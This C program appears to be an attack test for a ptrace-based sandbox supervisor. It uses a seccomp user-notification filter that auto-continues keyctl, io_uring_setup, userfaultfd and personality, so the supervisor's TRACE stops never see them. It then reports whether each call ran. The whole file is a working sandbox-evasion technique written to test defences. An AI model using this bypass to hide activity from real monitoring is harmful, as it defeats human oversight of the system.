/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack-usernotif: the SECCOMP_RET_USER_NOTIF bypass of a tracer's TRACE stops.
 *
 * Installs its own filter (libseccomp) that answers keyctl, io_uring_setup, userfaultfd and
 * personality with SECCOMP_RET_USER_NOTIF and a listener, and a thread of its own answers every
 * notification with SECCOMP_USER_NOTIF_FLAG_CONTINUE: the kernel then runs the call. USER_NOTIF
 * outranks TRACE, so under a supervisor whose denials are TRACE stops (explain, the ptrace
 * recorder's ceiling) the calls would run unseen. Prints "install RET ERRNO", then "NAME RET
 * ERRNO" per call; the calls are made whether or not the install worked.
 */
#include <errno.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <seccomp.h>
#include <stdio.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/syscall.h>
#include <unistd.h>

static int listener = -1;

static void *answer(void *arg)
{
	struct seccomp_notif *req;
	struct seccomp_notif_resp *resp;

	(void)arg;
	if (seccomp_notify_alloc(&req, &resp) < 0)
		return NULL;
	while (seccomp_notify_receive(listener, req) == 0) {
		memset(resp, 0, sizeof(*resp));
		resp->id = req->id;
		resp->flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)seccomp_notify_respond(listener, resp);
	}
	return NULL;
}

static void show(const char *name, long r)
{
	printf("%s %ld %d\n", name, r, r < 0 ? errno : 0);
	fflush(stdout);
}

int main(void)
{
	static const char *const names[] = {"keyctl", "io_uring_setup", "userfaultfd", "personality"};
	scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
	struct io_uring_params params;
	pthread_t th;
	int r = ctx ? 0 : -ENOMEM;

	for (size_t i = 0; r == 0 && i < sizeof(names) / sizeof(names[0]); i++)
		r = seccomp_rule_add(ctx, SCMP_ACT_NOTIFY, seccomp_syscall_resolve_name(names[i]), 0);
	if (r == 0)
		r = seccomp_load(ctx);
	errno = r < 0 ? -r : 0;
	show("install", r);
	if (r == 0) {
		listener = seccomp_notify_fd(ctx);
		if (listener < 0 || pthread_create(&th, NULL, answer, NULL) != 0)
			return 3;
	}
	errno = 0;
	show("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	memset(&params, 0, sizeof(params));
	errno = 0;
	show("io_uring_setup", syscall(SYS_io_uring_setup, 1, &params));
	errno = 0;
	show("userfaultfd", syscall(SYS_userfaultfd, 0));
	errno = 0;
	show("personality", syscall(SYS_personality, READ_IMPLIES_EXEC));
	return 0;
}
